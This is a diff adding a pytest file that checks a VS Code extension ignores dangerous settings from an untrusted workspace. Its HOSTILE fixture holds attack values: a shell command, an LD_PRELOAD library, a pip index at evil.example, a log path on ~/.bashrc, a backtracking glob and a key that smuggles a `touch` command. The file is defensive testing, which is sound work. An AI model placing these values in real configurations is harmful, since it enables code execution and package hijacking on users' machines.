@@ -1,0 +1,151 @@
+"""Settings of a workspace that is not trusted, in a VS Code that lets nested ones through (microsoft/vscode#330310).
+
+The extension's own module is bundled and run in Node with a `vscode` module that keeps settings as VS Code does: keys
+are split at their dots, tables merge, and no layer is filtered.
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.editors.vscode.conftest import EXTENSION, npm_packages
+
+FAKE_VSCODE = """
+const input = JSON.parse(process.env.INPUT);
+const isTable = (value) => typeof value === 'object' && value !== null && !Array.isArray(value);
+const merge = (under, over) => {
+  const table = { ...under };
+  for (const [name, value] of Object.entries(over))
+    table[name] = isTable(table[name]) && isTable(value) ? merge(table[name], value) : value;
+  return table;
+};
+const tree = (raw) => {
+  let found = {};
+  for (const [name, value] of Object.entries(raw))
+    found = merge(found, name.split('.').reduceRight((inner, part) => ({ [part]: inner }), value));
+  return found;
+};
+const at = (layer, path) => path.split('.').reduce((table, part) => (isTable(table) ? table[part] : undefined), layer);
+const { defaults, user, workspace } = input;
+const layers = { defaultValue: tree(defaults), globalValue: tree(user), workspaceValue: tree(workspace) };
+const all = Object.values(layers).reduce(merge, {});
+module.exports = {
+  ConfigurationTarget: { Global: 1, Workspace: 2 },
+  workspace: {
+    isTrusted: input.trusted,
+    getConfiguration: (section) => ({
+      get: (name) => at(all, `${section}.${name}`),
+      inspect: (name) => Object.fromEntries(
+        Object.entries(layers).map(([layer, table]) => [layer, at(table, `${section}.${name}`)])),
+    }),
+  },
+};
+"""
+PROGRAM = """
+import { ownSettings, serverSettings } from './configuration';
+console.log(JSON.stringify({ own: ownSettings(), server: serverSettings() }));
+"""
+HOSTILE: dict[str, Any] = {
+    "server": {
+        "command": ["/bin/sh", "-c", "touch /tmp/x"],
+        "python": "./evil/python",
+        "environment": {"LD_PRELOAD": "./evil.so"},
+        "package": "./evil",
+        "pipArguments": ["--index-url", "http://evil.example"],
+    },
+    "model": "./evil",
+    "log": {"file": "~/.bashrc", "level": "debug"},
+    "exclude": ["*a*a*a*a*a*b"],
+    "verify_refactorings": "on",
+    "max_lines": 3,
+    "\ntouch ~/X #": 1,
+}
+
+
+@pytest.fixture(scope="module")
+def bundle(node: dict[str, str], tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Return the folder of the bundled module and of the module that stands for `vscode`."""
+    npm_packages(node)
+    folder = tmp_path_factory.mktemp("restricted")
+    (folder / "node_modules").mkdir()
+    (folder / "node_modules" / "vscode.js").write_text(FAKE_VSCODE)
+    program = shutil.which("node", path=node["PATH"])
+    assert program is not None
+    options = ["--bundle", "--platform=node", "--external:vscode", f"--outfile={folder / 'bundle.js'}"]
+    esbuild = EXTENSION / "node_modules" / "esbuild" / "bin" / "esbuild"
+    entry = ["--loader=ts", "--sourcefile=src/entry.ts"]
+    done = subprocess.run(
+        [program, esbuild, *options, *entry],
+        input=PROGRAM, cwd=EXTENSION / "src", env=node, capture_output=True, text=True,
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    return folder
+
+
+def read(bundle: Path, node: dict[str, str], **layers: Any) -> tuple[dict[str, Any], dict[str, Any]]:
+    """Return the extension's own settings, and those that the server is sent."""
+    manifest = json.loads((EXTENSION / "package.json").read_text(encoding="utf-8"))
+    groups = manifest["contributes"]["configuration"]
+    defaults = {name: schema["default"] for group in groups for name, schema in group["properties"].items()}
+    settings = {"defaults": defaults, "user": {}, "workspace": {}, "trusted": False} | layers
+    program = shutil.which("node", path=node["PATH"])
+    assert program is not None
+    done = subprocess.run(
+        [program, "bundle.js"], cwd=bundle, env=node | {"INPUT": json.dumps(settings)}, capture_output=True, text=True
+    )
+    assert done.returncode == 0, done.stderr
+    found = json.loads(done.stdout)
+    return found["own"], found["server"]
+
+
+def flat(table: dict[str, Any], prefix: str) -> dict[str, Any]:
+    found = {}
+    for name, value in table.items():
+        if isinstance(value, dict) and name != "environment":
+            found |= flat(value, f"{prefix}{name}.")
+        else:
+            found[prefix + name] = value
+    return found
+
+
+FORMS = {
+    "nested": {"codegen-lsp": HOSTILE},
+    "flat": flat(HOSTILE, "codegen-lsp."),
+    "half nested": {f"codegen-lsp.{name}": value for name, value in HOSTILE.items()},
+}
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_an_untrusted_workspace_names_no_programs_models_files_or_patterns(
+    bundle: Path, node: dict[str, str], form: str
+) -> None:
+    own, server = read(bundle, node, workspace=FORMS[form])
+    assert own == {"python": "", "command": [], "environment": {}, "package": "", "pipArguments": []}
+    assert server["model"] == "auto"
+    assert server["log.file"] == ""
+    assert server["exclude"] == []
+    assert server["verify_refactorings"] == "off"
+    assert server["max_lines"] == 3, "other settings of the workspace count"
+    assert not any("touch" in name or (isinstance(value, str) and "evil" in value) for name, value in server.items())
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_the_users_own_settings_count(bundle: Path, node: dict[str, str], form: str) -> None:
+    user = {"codegen-lsp": {"model": "codegen-350M-mono", "server": {"command": ["/opt/codegen-lsp"]}}}
+    own, server = read(bundle, node, workspace=FORMS[form], user=user)
+    assert own["command"] == ["/opt/codegen-lsp"]
+    assert server["model"] == "codegen-350M-mono"
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_a_trusted_workspace_has_its_way(bundle: Path, node: dict[str, str], form: str) -> None:
+    own, server = read(bundle, node, workspace=FORMS[form], trusted=True)
+    assert own == HOSTILE["server"]
+    assert (server["model"], server["log.file"], server["verify_refactorings"]) == ("./evil", "~/.bashrc", "on")
+    assert not any("touch" in name for name in server)
